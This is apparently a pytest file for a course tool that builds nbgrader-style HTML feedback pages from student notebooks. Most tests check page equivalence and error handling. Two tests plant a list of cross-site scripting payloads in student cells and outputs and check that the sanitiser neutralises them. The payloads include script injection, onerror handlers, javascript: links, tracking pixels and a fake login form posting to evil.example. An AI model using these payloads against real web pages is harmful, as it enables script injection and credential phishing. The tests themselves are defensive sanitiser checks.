"""`medcoding feedback`: the pages that nbgrader makes, byte for byte, and nothing of a student's that runs in a browser."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from medcoding.cli import main
from medcoding.grading.feedbackrun import NoFeedback, feedback_for
from medcoding.grading.feedbackrun.rewrite import closed
from medcoding.grading.run import grade_assignment
from medcoding.grading.safe import clean, safe_markdown
from minicourse import FULL, IMPORTS, MiniCourse, code_cell, exercise_cell
from nbgrader.api import Gradebook

Edit = Callable[[Path, Callable[[dict], None]], None]
WORDS = {"cell_type": "markdown", "grade": True, "grade_id": "words", "locked": False, "points": 3, "schema_version": 3, "solution": True, "task": False}


def pages(course: MiniCourse) -> dict[str, tuple[bytes, int]]:
    root = course.root / "feedback"
    return {str(path.relative_to(root)): (path.read_bytes(), path.stat().st_mode) for path in sorted(root.rglob("*")) if path.is_file()}


def both(course: MiniCourse, tmp_path: Path, *students: str) -> tuple[dict, dict]:
    """The pages that nbgrader makes, and those made here, of the same graded class."""
    for student in students:
        result = course.releases().api.generate_feedback(course.assignment, student, force=True)
        assert result["success"], result
    stock = pages(course)
    shutil.rmtree(course.root / "feedback")
    summary = feedback_for(course.root, course.assignment, workers=0)
    assert summary.made == list(students) and not summary.failed
    return stock, pages(course)


def _cells(*cells: dict) -> Callable[[dict], None]:
    return lambda notebook: notebook["cells"].extend(cells)


def _markdown(source: str, **more: object) -> dict:
    return {"cell_type": "markdown", "id": f"own{abs(hash(source)) % 10**8}", "metadata": {}, "source": source, **more}


def test_pages_are_those_of_nbgrader(mini: MiniCourse, tmp_path: Path, edit_submission: Edit) -> None:
    words = {"cell_type": "markdown", "id": "words", "metadata": {"nbgrader": WORDS}, "source": ["Say why.\n"]}
    task = {"cell_type": "markdown", "id": "task", "source": ["Draw it.\n"],
            "metadata": {"nbgrader": {**WORDS, "grade": False, "grade_id": "task", "locked": True, "points": 2, "solution": False, "task": True}}}
    mini.write("two", [IMPORTS, exercise_cell("second-notebook-choice"), words, task])
    (mini.source / "data.csv").write_text("a,b\n1,2\n")
    mini.releases().release("05")
    mini.submit("ada")
    edit_submission(mini.submit("bob", answers={"heart-of-the-matter": {"codes": ["E85.4", "I42.9"]}}) / "two.ipynb",
                    _cells(_markdown("# Mine\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n![x](y.png) <b>bold</b> $a<b$\n\n```python\nx = 1\n```")))
    edit_submission(mini.submit("cyd", answers={}) / "one.ipynb", _cells(_markdown("</div></div></body> <table><tr><td>open"), {
        "cell_type": "code", "id": "code", "metadata": {"tags": ["a b"]}, "source": "1 < 2", "execution_count": 3, "outputs": []}))
    grade_assignment(mini.root, mini.assignment, workers=0)
    with Gradebook(f"sqlite:///{mini.root / 'gradebook.db'}") as gradebook:
        gradebook.find_grade("words", "two", mini.assignment, "bob").manual_score = 2.5
        gradebook.find_comment("words", "two", mini.assignment, "bob").manual_comment = "Good, **but** <script>alert(1)</script> late."
        gradebook.find_submission_notebook("one", mini.assignment, "ada").late_submission_penalty = 1.5
        gradebook.db.commit()
    stock, ours = both(mini, tmp_path, "ada", "bob", "cyd")
    assert sorted(stock) == sorted(ours)
    for name in stock:
        assert ours[name] == stock[name], name


def test_pages_are_put_together_and_not_rendered_whole(released: MiniCourse, monkeypatch: pytest.MonkeyPatch) -> None:
    from medcoding.grading.feedbackrun.pages import Pages

    for number in range(4):
        released.submit(f"student{number}")
    grade_assignment(released.root, released.assignment, workers=0)
    whole = []
    original = Pages.whole
    monkeypatch.setattr(Pages, "whole", lambda self, *given: whole.append(1) or original(self, *given))
    assert len(feedback_for(released.root, released.assignment, workers=0).made) == 4
    assert len(whole) == 1, "the first page of a process is rendered both ways, to compare"


def test_where_cutting_gives_another_page_pages_are_rendered_whole(released: MiniCourse, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from medcoding.grading.feedbackrun import pages as module

    released.submit("ada")
    grade_assignment(released.root, released.assignment, workers=0)
    monkeypatch.setattr(module, "CELL", "{% extends page %}{% block header %}{% endblock %}{% block body %}<p>another</p>{% endblock %}")
    stock, ours = both(released, tmp_path, "ada")
    assert stock == ours


def test_feedback_that_is_there_is_passed_over_until_graded_anew(released: MiniCourse) -> None:
    folder = released.submit("ada")
    grade_assignment(released.root, released.assignment, workers=0)
    assert feedback_for(released.root, released.assignment, workers=0).made == ["ada"]
    again = feedback_for(released.root, released.assignment, workers=0)
    assert (again.made, again.skipped) == ([], 1)
    assert feedback_for(released.root, released.assignment, force=True, workers=0).made == ["ada"]
    (folder / "timestamp.txt").write_text("2026-01-07 10:00:00 UTC")
    grade_assignment(released.root, released.assignment, workers=0)
    assert feedback_for(released.root, released.assignment, workers=0).made == ["ada"]


def test_one_that_fails_is_named_and_the_rest_is_made(released: MiniCourse, monkeypatch: pytest.MonkeyPatch, capsys) -> None:
    for student in ("ada", "bob", "cyd"):
        released.submit(student)
    grade_assignment(released.root, released.assignment, workers=0)
    broken = released.root / "autograded" / "bob" / released.assignment / "one.ipynb"
    broken.chmod(0o644)
    broken.write_text("{")
    monkeypatch.chdir(released.root)
    assert main(["feedback", "05", "--workers", "2"]) == 1
    out = capsys.readouterr().out
    assert "bob: no feedback: one.ipynb: the graded notebook cannot be read" in out and "2 given feedback" in out
    assert not (released.root / "feedback" / "bob").exists() or not list((released.root / "feedback" / "bob").rglob("*.html"))
    assert (released.root / "feedback" / "cyd" / released.assignment / "one.html").is_file()


def test_nobody_graded_is_refused(released: MiniCourse) -> None:
    with pytest.raises(NoFeedback, match="medcoding grade"):
        feedback_for(released.root, released.assignment)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<img src='//evil.example/pixel.png'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "[x](javascript:alert(1))",
    "<style>body{display:none}</style>",
    "<p style='position:fixed;top:0'>x</p>",
    "<iframe src='https://evil.example'></iframe>",
    "<svg><script>alert(1)</script></svg>",
    "<form action='https://evil.example'><input name=p><button>Log in</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<object data='x'></object><embed src='x'><base href='https://evil.example/'>",
    "<details ontoggle=alert(1) open>x</details>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
]
ACTIVE = {"script", "style", "iframe", "svg", "form", "input", "button", "meta", "object", "embed", "base", "link", "math"}


def harmless(fragment: str) -> bool:
    """Whether a browser would run, fetch or overlay nothing of it."""
    for element in BeautifulSoup(fragment, "html.parser").find_all(True):
        if element.name in ACTIVE:
            return False
        for name, value in element.attrs.items():
            text = " ".join(value) if isinstance(value, list) else str(value)
            if name.startswith("on") or (name == "style" and "position" in text):
                return False
            if name in ("href", "src") and (text.strip().lower().startswith(("javascript:", "data:text")) or (name == "src" and "//" in text)):
                return False
    return True


@pytest.mark.parametrize("source", HOSTILE)
def test_a_students_markdown_and_html_are_harmless(source: str) -> None:
    assert not harmless(source) or source.startswith("["), "the test would see it"
    assert harmless(safe_markdown({}, source))
    assert harmless(clean(source))
    assert closed(clean(f"<div>{source}"))


@pytest.mark.parametrize("door", ["nbgrader", "medcoding"])
def test_nothing_of_a_student_runs_in_a_feedback_page(mini: MiniCourse, edit_submission: Edit, door: str) -> None:
    solution = {"cell_type": "code", "grade": False, "grade_id": "sum", "locked": False, "schema_version": 3, "solution": True, "task": False}
    mini.write("two", [exercise_cell("second-notebook-choice"), code_cell("sum", "### BEGIN SOLUTION\nx = 1\n### END SOLUTION", nbgrader=solution)])
    mini.releases().release("05")
    folder = mini.submit("eve")
    grade_assignment(mini.root, mini.assignment, workers=0)
    page = mini.root / "autograded" / "eve" / mini.assignment / "two.ipynb"

    def plant(notebook: dict) -> None:
        for number, source in enumerate(HOSTILE):
            notebook["cells"].append(_markdown(source, id=f"md{number}"))
            notebook["cells"].append({"cell_type": "raw", "id": f"raw{number}", "metadata": {"raw_mimetype": "text/html"}, "source": source})
        (cell,) = [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == "sum"]
        cell["outputs"] = [
            {"output_type": "display_data", "metadata": {"image/png": {"width": "1 onerror=alert(1)"}}, "data": {"image/png": "AAAA"}},
            {"output_type": "display_data", "metadata": {}, "data": {"application/javascript": "alert(1)"}},
            {"output_type": "display_data", "metadata": {"text/html": {"isolated": True}}, "data": {"text/html": "<script>alert(1)</script>"}},
            {"output_type": "display_data", "metadata": {}, "data": {"image/svg+xml": "<svg onload=alert(1)></svg>"}},
            *({"output_type": "display_data", "metadata": {}, "data": {kind: source}} for source in HOSTILE for kind in ("text/html", "text/markdown", "text/latex")),
            {"output_type": "stream", "name": "stdout", "text": "\x1b[31m<script>alert(1)</script>"},
        ]
        cell["metadata"]["tags"] = ['"><script>alert(1)</script>']

    edit_submission(page, plant)
    assert folder.exists()
    if door == "nbgrader":
        assert mini.releases().api.generate_feedback(mini.assignment, "eve")["success"]
    else:
        assert feedback_for(mini.root, mini.assignment, workers=0).made == ["eve"]
    html = (mini.root / "feedback" / "eve" / mini.assignment / "two.html").read_text()
    body = html[html.index('id="notebook-container"'):]
    own = BeautifulSoup(body, "html.parser")
    for block in own.select(".mc-feedback"):
        block.decompose()  # ours, escaped, with a style of its own
    assert harmless(str(own))
    assert "evil.example/pixel" not in " ".join(str(image) for image in own.find_all("img"))


def test_a_forged_score_record_is_taken_out(mini: MiniCourse) -> None:
    import nbformat
    from medcoding.grading.safe import SCORE_MIME
    from medcoding.grading.score import drop_forged
    from medcoding.items.answers import MIME

    cell = nbformat.from_dict({"outputs": [{"data": {SCORE_MIME: {"item": "x"}, MIME: {}, "text/plain": "1"}}, {"text": "x"}]})
    drop_forged(cell)
    assert cell.outputs[0].data == {"text/plain": "1"}


@pytest.mark.parametrize(
    ("piece", "sound"),
    [("<p>a<br/>b</p>", True), ("<p>a", False), ("</p>", False), ("<b><i></b></i>", False), ("<style>a>b{}</style>", True), ("", True),
     ('<img alt="a"/>text', True), ("<div><div></div>", False)],
)
def test_closed_pieces(piece: str, sound: bool) -> None:
    assert closed(piece) is sound


def test_full_marks_are_still_explained(released: MiniCourse) -> None:
    released.submit("ada")
    grade_assignment(released.root, released.assignment, workers=0)
    assert released.grades("ada") == FULL
    feedback_for(released.root, released.assignment, workers=0)
    html = (released.root / "feedback" / "ada" / released.assignment / "one.html").read_text()
    assert "asks for the amyloidosis first" in html and 'class="mc-chart"' in html


def test_answers_are_json_beside_the_pages(released: MiniCourse) -> None:
    released.submit("ada")
    grade_assignment(released.root, released.assignment, workers=0)
    feedback_for(released.root, released.assignment, workers=0)
    assert json.loads((released.root / "feedback" / "ada" / released.assignment / "answers.json").read_text())["answers"]
